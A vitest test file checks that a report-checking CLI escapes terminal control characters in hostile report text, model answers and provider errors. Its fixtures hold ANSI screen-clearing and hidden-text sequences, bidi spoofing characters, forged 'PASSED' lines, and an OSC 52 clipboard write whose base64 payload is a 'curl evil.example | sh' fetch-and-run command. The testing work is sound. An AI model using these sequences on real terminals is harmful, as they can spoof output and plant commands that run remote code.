// Report text that tries to act on the reader's terminal: the bundled command line, run as a
// subprocess, must print every control character as a visible escape, while the results file
// keeps the text exactly as the report has it.
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startFakeOpenAI, type FakeOpenAI } from '../helpers/fake-openai.js';
import { report, tempFolder, verification } from '../helpers/reports.js';
import { runCli, runCliAsync } from '../helpers/run-cli.js';

const ESC = '\u001b';
const ATTACKS = {
  cursor: `${ESC}[1A${ESC}[2K${ESC}[2J${ESC}[H`, // up a line, erase it, clear the screen, home
  hidden: `${ESC}[8m`, // what follows is invisible
  clipboard: `${ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007`, // OSC 52 writes the clipboard
  bidi: '\u202eevil\u202c \u2066x\u2069 \u200f', // right-to-left override, isolates, a mark
  c1: '\u009b31m\u0085', // CSI as one C1 character, next line
  carriage: '\rPASSED',
};
const FORGED_ID = 'claim-evil\n\nPASSED';

const hostileStatement = `Employment rose ${ATTACKS.cursor}in every sector${ATTACKS.hidden} by 12 percent ${ATTACKS.clipboard}${ATTACKS.bidi}${ATTACKS.c1}.`;
const evidence = {
  id: `ev-${ESC}]52;c;QUFB\u0007`,
  excerpt: 'Employment rose overall, while hospitality employment declined for two quarters.',
};
const forged = {
  id: FORGED_ID,
  statement: hostileStatement,
  evidence_ids: [evidence.id, `ev-missing${ATTACKS.carriage}`],
  confidence: 'high' as const,
};
const envelope = {
  report: report([forged], [evidence]),
  verifications: [
    verification(forged, evidence, 'contradicts', 'hospitality employment declined'),
    // A second result for the pair (a duplicate) and one whose quote does not bind.
    verification(forged, evidence, 'supports', `Employment rose ${ATTACKS.hidden}overall`),
  ],
};
// Two claims with one ID: the error message quotes the ID.
const invalid = report(
  [
    { id: `dup${ATTACKS.bidi}${ATTACKS.c1}`, statement: 'One.', evidence_ids: [] },
    { id: `dup${ATTACKS.bidi}${ATTACKS.c1}`, statement: 'Two.', evidence_ids: [] },
  ],
  [],
);
const FILE = `docs/${ATTACKS.bidi.slice(0, 5)}${ESC}[8m.report.json`;

/** Every byte a hostile value could use to act on a terminal. */
// eslint-disable-next-line no-control-regex -- control characters are what it looks for
const CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069\u200e\u200f\u061c]/u;

function assertInertOnTerminal(output: string): void {
  expect(output).not.toContain(ESC);
  expect(output.match(CONTROL)).toBeNull();
  // The only PASSED or FAILED line is the gate's own, and this run fails.
  expect(output.split('\n').filter((line) => /^\s*PASSED\s*$/.test(line))).toEqual([]);
}

let openai: FakeOpenAI;
beforeAll(async () => {
  openai = await startFakeOpenAI({
    respond: (call) => {
      const pair = call.pairs[0];
      if (pair?.evidence_id === 'ev-plain-2') {
        return {
          status: 400,
          body: {
            error: {
              message: `bad request ${ATTACKS.cursor}${ATTACKS.clipboard}\nPASSED`,
              type: 'invalid_request_error',
            },
          },
        };
      }
      return {
        verifications: [
          {
            claim_id: `invented${ATTACKS.hidden}\nPASSED`,
            evidence_id: 'ev-x',
            verdict: 'supports',
            quote: 'x',
            limitations: [],
            confidence: 0.5,
          },
        ],
      };
    },
  });
});
afterAll(() => openai.close());

describe('hostile report text on the terminal', () => {
  it('shows every control character of every value escaped, and keeps the text as it was in the results file', async () => {
    const bare = report(
      [
        {
          id: `claim-bare${ATTACKS.hidden}`,
          statement: `Bare claim ${ATTACKS.cursor}one.`,
          evidence_ids: ['ev-plain-1'],
        },
        { id: 'claim-bare-2', statement: 'Bare claim two.', evidence_ids: ['ev-plain-2'] },
      ],
      [
        { id: 'ev-plain-1', excerpt: 'Plain excerpt one.' },
        { id: 'ev-plain-2', excerpt: 'Plain excerpt two.' },
      ],
    );
    const dir = tempFolder({ [FILE]: envelope, 'docs/dup.report.json': invalid, 'docs/bare.report.json': bare });
    const run = await runCliAsync(
      [
        'check',
        '--json',
        'results.json',
        '--model',
        'gpt-test',
        '--base-url',
        openai.baseUrl,
        '--batch-size',
        '1',
        '--max-retries',
        '0',
      ],
      dir,
      {
        OPENAI_API_KEY: 'sk-test-key-123456',
      },
    );
    expect(run.status).toBe(1);
    assertInertOnTerminal(run.stdout);
    assertInertOnTerminal(run.stderr);

    // Visible, in the documented notation.
    expect(run.stdout).toContain('claim-evil\\n\\nPASSED');
    expect(run.stdout).toContain('\\x1b[8m');
    expect(run.stdout).toContain('\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBza'); // a statement, shortened to 120 characters
    expect(run.stdout).toContain('ev-\\x1b]52;c;QUFB\\x07'); // an evidence ID
    expect(run.stdout).toContain('\\u202eevil\\u202c \\u2066x\\u2069 \\u200f');
    expect(run.stdout).toContain('\\u009b31m\\u0085');
    expect(run.stdout).toContain('ev-missing\\rPASSED'); // a dangling citation's evidence ID
    expect(run.stdout).toContain('docs/\\u202eevil\\x1b[8m.report.json'); // the file name
    expect(run.stdout).toContain('duplicate claim ID "dup\\u202eevil'); // an error message
    expect(run.stdout).toContain('invented\\x1b[8m\\nPASSED'); // a model's answer
    expect(run.stderr).toContain('bad request \\x1b[1A\\x1b[2K'); // a provider's error text
    expect(run.stdout).toMatch(/FAILED: \d+ checks? over the limit\n$/);

    // The results file is data, not display: the text stays exactly as written.
    const results = JSON.parse(readFileSync(path.join(dir, 'results.json'), 'utf8'));
    const evil = results.reports.find((item: { file: string }) => item.file === FILE);
    expect(evil.claims[0]).toMatchObject({ id: FORGED_ID, statement: hostileStatement });
  });

  it('does not read numbers out of escape sequences ("52" of OSC 52, "8m" of ESC[8m, "1A", "2K")', () => {
    const claim = {
      id: 'c',
      statement: `Employment rose ${ATTACKS.cursor}by 12 percent${ATTACKS.hidden} ${ATTACKS.clipboard}.`,
      evidence_ids: ['e'],
    };
    const excerpt = { id: 'e', excerpt: 'Employment rose by 12 percent in the year.' };
    const dir = tempFolder({ 'a.report.json': report([claim], [excerpt]) });
    const run = runCli(['check', '--json', 'results.json', '--max-binding-errors', 'none'], dir);
    const results = JSON.parse(readFileSync(path.join(dir, 'results.json'), 'utf8'));
    expect(results.reports[0].findings).toEqual([]);
    expect(run.stdout).not.toContain('ungrounded_number');
  });

  it('colours only with its own codes when colour is forced', () => {
    const dir = tempFolder({ [FILE]: envelope });
    const run = runCli(['check'], dir, { FORCE_COLOR: '1' });
    // node:util styleText's codes for bold, dim, red, green, yellow and their resets.
    // eslint-disable-next-line no-control-regex -- the escape sequences are what it looks for
    const own = /\u001b\[(?:1|2|22|31|32|33|39)m/g;
    expect(run.stdout).toMatch(own);
    assertInertOnTerminal(run.stdout.replace(own, ''));
  });
});
